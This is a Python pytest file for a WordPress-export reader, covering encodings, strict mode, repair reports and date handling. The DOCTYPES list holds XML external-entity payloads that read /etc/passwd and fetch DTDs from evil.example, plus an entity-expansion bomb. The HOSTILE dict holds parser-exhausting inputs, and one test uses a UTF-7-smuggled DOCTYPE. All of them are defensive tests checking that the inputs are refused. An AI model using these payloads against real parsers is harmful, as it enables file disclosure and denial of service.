"""Reading of WordPress exports: encodings, attacks, --strict, what is kept of values and dates."""

import time
from datetime import datetime, timedelta, timezone

import pytest
from exporting import DECLARATION, HEAD, TAIL, codes, comment, export, item, only_posts, posts, records, site
from hypothesis import given
from hypothesis import strategies as st

from blogconv.errors import LimitError, SourceError
from blogconv.plugin import Limits
from blogconv.readers.wxr import sniff
from blogconv.seen import Seen
from blogconv.wordpress import from_rss_date, moment, rss_date, sql_dates

ACCENTS = "Déjà vu — “où” 10 €"


def declared(label: str) -> str:
    return f'<?xml version="1.0" encoding="{label}"?>\n'


def accented(label: str) -> str:
    return export(item(1, title=ACCENTS), declaration=declared(label))


@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252"])
def test_an_encoding_that_is_what_it_says_is_read_without_a_word(codec: str) -> None:
    label = "UTF-16" if codec.startswith("utf-16") else codec.removesuffix("-sig")
    found, report = records(accented(label).encode(codec))
    assert only_posts(found)[0].title == ACCENTS
    assert not report.counts


@pytest.mark.parametrize("codec", ["gbk", "shift_jis", "euc-kr", "big5", "koi8-r", "iso8859-2"])
def test_an_encoding_of_old_is_read_as_declared(codec: str) -> None:
    title = {"gbk": "汉字标题", "shift_jis": "漢字の題", "euc-kr": "한글 제목", "big5": "漢字標題"}.get(codec)
    title = title or {"koi8-r": "Русский заголовок", "iso8859-2": "Žluťoučký kůň"}[codec]
    found, report = records(export(item(1, title=title), declaration=declared(codec)).encode(codec))
    assert only_posts(found)[0].title == title
    assert not report.counts


@pytest.mark.parametrize("label", ["ISO-8859-1", "windows-1252", "UTF-16", "klingon", "utf-32"])
def test_utf_8_under_another_name_is_read_as_what_it_is_and_told(label: str) -> None:
    found, report = records(accented(label).encode())
    assert only_posts(found)[0].title == ACCENTS
    assert list(codes(report)) == ["wxr-encoding"]


def test_a_lie_that_shows_late_is_found_too() -> None:
    many = [item(n, body=f"<![CDATA[{'plain words ' * 600}]]>") for n in range(2, 40)]
    data = export(*many, item(1, title=ACCENTS), declaration=declared("ISO-8859-1"))
    assert posts(data)[-1].title == ACCENTS


def test_latin_1_is_read_as_browsers_do() -> None:
    assert posts(accented("ISO-8859-1").encode("cp1252"))[0].title == ACCENTS


def test_the_encoding_option_goes_before_the_declaration() -> None:
    data = accented("UTF-8").encode("cp1252")
    assert posts(data, encoding="cp1252")[0].title == ACCENTS
    with pytest.raises(SourceError, match="unknown encoding 'klingon'"):
        records(data, encoding="klingon")


def test_windows_1252_declared_as_utf_8_is_repaired_byte_by_byte() -> None:
    found, report = records(accented("UTF-8").encode("cp1252"))
    assert only_posts(found)[0].title == ACCENTS
    assert list(codes(report)) == ["wxr-stray-byte"]


@pytest.mark.parametrize("label", ["UTF-7", "utf7", "unicode-1-1-utf-7"])
def test_utf_7_is_refused(label: str) -> None:
    with pytest.raises(SourceError, match=r"UTF-7") if label != "unicode-1-1-utf-7" else pytest.raises(SourceError):
        records(declared(label) + "+ADwAIQ-DOCTYPE rss+AD4-" + HEAD + TAIL, strict=True)


DOCTYPES = [
    '<!DOCTYPE rss [<!ENTITY x SYSTEM "/etc/passwd">]>',
    '<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]>',
    '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>',
    '<!DOCTYPE rss SYSTEM "evil.dtd">',
    '<!DOCTYPE rss PUBLIC "-//X//Y" "http://evil.example/y.dtd">',
    '<!DOCTYPE rss [<!ATTLIST rss a CDATA "b">]>',
]


@pytest.mark.parametrize("doctype", DOCTYPES)
@pytest.mark.parametrize("before", ["", "\n", "<br />Notice: oops<br />\n"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_a_doctype_that_declares_or_loads_is_refused(doctype: str, before: str, codec: str) -> None:
    data = before + declared(codec) + doctype + HEAD + item(1, title="&x;&b;") + TAIL
    with pytest.raises(SourceError, match="DOCTYPE"):
        records(data.encode(codec))


def test_a_bare_doctype_is_harmless() -> None:
    assert len(posts(DECLARATION + "<!DOCTYPE rss>" + HEAD + item(1) + TAIL)) == 1


def test_a_doctype_in_a_post_is_text() -> None:
    body = '<!DOCTYPE html [<!ENTITY x SYSTEM "/etc/passwd">]><p>&x;</p>'
    (post,) = posts(export(item(1, body=body)))
    assert post.content == body


HOSTILE = {
    "depth": item(1, body="<a>" * 300_000 + "</a>" * 300_000),
    "attributes": item(1, more="<x " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>"),
    "namespaces": item(1, more="<x " + " ".join(f'xmlns:a{n}="urn:{n}"' for n in range(50_000)) + "/>"),
    "comments": item(1, more="<wp:comment>" * 100_000),
    "titles never closed": item(1, more="<title>" * 100_000),
    "unknown never closed": item(1, more="".join(f"<x{n}>" for n in range(40_000))),
    "nested unknown": item(1, more="<x>" * 20_000 + "&" + "</x>" * 20_000),
    "sections": item(1, body="<![CDATA[" * 100_000),
    "section ends": item(1, body="]]>" * 100_000),
    "quotes": item(1, body="<a b='" * 100_000),
    "stray markup": item(1, body="<" * 300_000),
    "references": item(1, body="&" * 300_000),
    "items never closed": "<item>" * 30_000,
    "chain of replies": item(1, more="".join(comment(n, parent=n - 1) for n in range(1, 3000))),
    "circle of replies": item(1, more="".join(comment(n, parent=n % 3000 + 1) for n in range(1, 3001))),
    "the same id": item(1, more=comment(7) * 3000),
    "comment never closed": "<!--" * 100_000,
}


@pytest.mark.parametrize("what", HOSTILE)
def test_an_attack_on_time_or_depth_fails(what: str) -> None:
    start = time.process_time()
    try:
        found, _ = records(export(HOSTILE[what], item(2, title="After")))
    except LimitError as error:
        assert "--max-depth" in str(error)
    else:
        assert any(post.title == "After" for post in only_posts(found))
    assert time.process_time() - start < 5


def test_a_text_beyond_the_limit_is_refused() -> None:
    data = export(item(1, body=f"<![CDATA[{'x' * 3_000_000}]]>"))
    assert len(posts(data)[0].content) == 3_000_000
    for broken in (data, data.replace("<title>", "<title>& ")):
        with pytest.raises(LimitError, match=r"500,000 bytes|1,000,000 bytes"):
            records(broken, limits=Limits(max_field=500_000))


@pytest.mark.parametrize(
    "broken",
    [
        export(item(1, title="a & b")),
        export(item(1))[:-20],
        "\n" + export(item(1)),
        export(item(1)) + "<!-- -->x",
        export(item(1), head=HEAD.replace("xmlns:wp", "xmlns:export")),
        export(item(1), item(1)),
        export(item(1, more=comment(1, parent=1))),
        "<br/>" + export(item(1)),
    ],
)
def test_strict_refuses_every_repair(broken: str) -> None:
    assert records(broken)[1].counts
    with pytest.raises(SourceError):
        records(broken, strict=True)


def test_strict_accepts_what_is_sound() -> None:
    data = export(item(1, title="Fish &amp; chips", more=comment(1) + comment(2, parent=1)), item(2))
    found, report = records(data, strict=True)
    assert found == records(data)[0]
    assert not report.counts


def test_a_section_that_was_never_closed_swallows_nothing() -> None:
    first = item(1, title="One", body="<![CDATA[body of one", more=comment(11))
    found, report = records(export(item(0), first, item(2, title="Two"), item(3)))
    one, two = only_posts(found)[1:3]
    assert (one.id, one.content, len(one.comments)) == ("1", "body of one", 1)
    assert (two.id, two.title, two.content) == ("2", "Two", "A body")
    assert "wxr-cdata-unclosed" in codes(report)


def test_a_section_without_end_whose_end_tag_is_broken_swallows_nothing() -> None:
    first = item(1, title="One", body="<![CDATA[body of one").replace("</content:encoded>", "</content:enc")
    found, report = records(export(item(7), first, item(2, title="Two")))
    assert [(post.id, post.title) for post in only_posts(found)] == [("7", "A title"), ("1", "One"), ("2", "Two")]
    assert only_posts(found)[1].content.startswith("body of one")
    assert report.counts


def test_an_end_tag_without_its_stroke_makes_no_post() -> None:
    found, report = records(export(item(1).replace("</item>", "<item>"), item(2)))
    assert [post.id for post in only_posts(found)] == ["1", "2"]
    assert list(codes(report)) == ["wxr-unclosed"]


def test_a_comment_that_was_never_closed_swallows_nothing() -> None:
    more = comment(11, "<![CDATA[Oh") + comment(12, "<![CDATA[Ah]]>")
    found, report = records(export(item(1, more=more)))
    assert [(c.id, c.content) for c in only_posts(found)[0].comments] == [("11", "Oh"), ("12", "Ah")]
    assert list(codes(report)) == ["wxr-cdata-unclosed"]


def test_a_post_about_exports_is_left_alone() -> None:
    quoted = export(item(7, title="<![CDATA[Quoted]]>"), item(8)).replace("]]>", "]]]]><![CDATA[>")
    for data in (export(item(1, body=f"<![CDATA[{quoted}]]>"), item(2)), export(item(1, body=f"<![CDATA[{quoted}]]>"))):
        post = posts(data, strict=True)[0]
        assert post.content == export(item(7, title="<![CDATA[Quoted]]>"), item(8))


def test_a_post_about_exports_is_left_alone_beside_a_broken_one() -> None:
    quoted = export(item(7), item(8)).replace("]]>", "]]]]><![CDATA[>")
    read = posts(export(item(1, title="a & b"), item(2, body=f"<![CDATA[{quoted}]]>"), item(3)))
    assert [post.id for post in read] == ["1", "2", "3"]
    assert read[1].content == export(item(7), item(8))


@pytest.mark.parametrize("data", ["", "   \n", "{}", "<html><p>Hello</p></html>", "just words", "<rs"])
def test_what_is_no_export_is_refused(data: str) -> None:
    with pytest.raises(SourceError, match="not a WordPress export"):
        records(data)


def test_each_spelling_of_the_namespace_is_understood() -> None:
    for version in ("1.0", "1.1", "1.2"):
        for scheme in ("http", "https"):
            head = HEAD.replace("http://wordpress.org/export/1.2/", f"{scheme}://wordpress.org/export/{version}/")
            found, report = records(export(item(1, more=comment(5)), head=head), strict=True)
            assert only_posts(found)[0].comments[0].id == "5"
            assert not report.counts


def test_namespaces_may_be_declared_on_each_element() -> None:
    inner = item(1, more=comment(5)).replace("<wp:", "<q:").replace("</wp:", "</q:")
    inner = inner.replace("<item>", '<item xmlns:q="http://wordpress.org/export/1.1/">')
    (post,) = posts(export(inner, item(2)))[:1]
    assert (post.id, post.comments[0].id) == ("1", "5")


def test_what_the_channel_says_late_is_told() -> None:
    _, report = records(export(item(1), "<wp:tag><wp:tag_slug>x</wp:tag_slug></wp:tag>"))
    assert list(codes(report)) == ["wxr-late-element"]


def test_the_place_of_a_repair_is_its_line() -> None:
    data = export(item(1), item(2, title="ok", more=comment(3, "a & b")))
    _, report = records(data)
    (told,) = report.kept
    assert told.line == 1 + data[: data.index("a & b")].count("\n")
    assert told.record == "2"


def test_white_space_around_words_and_numbers_means_nothing() -> None:
    data = export(item(1, more="<wp:post_parent>\n7 </wp:post_parent><link>\n https://x.example/ </link>" + comment(2)))
    for tag in ("wp:post_id", "wp:status", "wp:post_type", "wp:post_date", "wp:comment_id", "wp:comment_approved"):
        data = data.replace(f"<{tag}>", f"<{tag}>\n\t").replace(f"</{tag}>", f"\n</{tag}>")
    (post,) = posts(data)
    assert (post.id, post.status, post.type, post.parent, post.url) == (
        "1",
        "published",
        "post",
        "7",
        "https://x.example/",
    )
    assert post.published == "2012-03-04T05:06:07+01:00"
    assert [(c.id, c.status, c.type) for c in post.comments] == [("2", "approved", "comment")]


def test_a_post_that_quotes_unfinished_xml_is_left_alone() -> None:
    text = "Close it with </content:encoded> and open it with <![CDATA[, that is all."
    assert posts(export(item(1, body=f"<![CDATA[{text}]]>")), strict=True)[0].content == text


def test_the_generator_and_its_time_are_kept() -> None:
    data = DECLARATION + '<!-- generator="WordPress/6.1" created="2024-01-02 03:04" -->' + HEAD + TAIL
    assert site(data).extra["wxr"]["generator_comment"] == 'generator="WordPress/6.1" created="2024-01-02 03:04"'


def test_an_export_is_recognised() -> None:
    data = export(item(1)).encode()
    assert sniff(data, "x.xml") == 1.0
    assert sniff(export(item(1)).encode("utf-16"), "x.xml") == 1.0
    assert sniff(data.replace(b"wordpress.org", b"example.org"), "x") == 1.0
    assert sniff(b"<html><body>rss</body></html>", "x.xml") == 0.0


OFFSETS = st.integers(-56, 56).map(lambda quarters: timezone(timedelta(minutes=15 * quarters)))
TIMES = st.datetimes(min_value=datetime(2, 1, 1), max_value=datetime(9998, 12, 31)).map(  # noqa: DTZ001
    lambda when: when.replace(microsecond=0)
)


@given(TIMES, OFFSETS)
def test_the_two_dates_and_the_schemas_one_say_the_same(when: datetime, zone: timezone) -> None:
    date = when.replace(tzinfo=zone).isoformat()
    local, gmt = sql_dates(date)
    assert local is not None
    assert gmt is not None
    assert moment(local, gmt) == date
    printed = rss_date(date)
    assert printed is not None
    read = from_rss_date(printed)
    assert read is not None
    assert datetime.fromisoformat(read) == datetime.fromisoformat(date)


@given(st.lists(st.one_of(st.integers(0, 70_000), st.integers(0, 10**12)).map(str) | st.text(max_size=3), max_size=200))
def test_an_id_is_new_once(ids: list[str]) -> None:
    seen, known = Seen(), set()
    for ident in ids:
        assert seen.add(ident) is (ident not in known)
        known.add(ident)


def test_dense_ids_are_known_too() -> None:
    seen = Seen()
    assert all(seen.add(str(n)) for n in range(10_000))
    assert not any(seen.add(str(n)) for n in range(10_000))
    assert seen.add("10000")
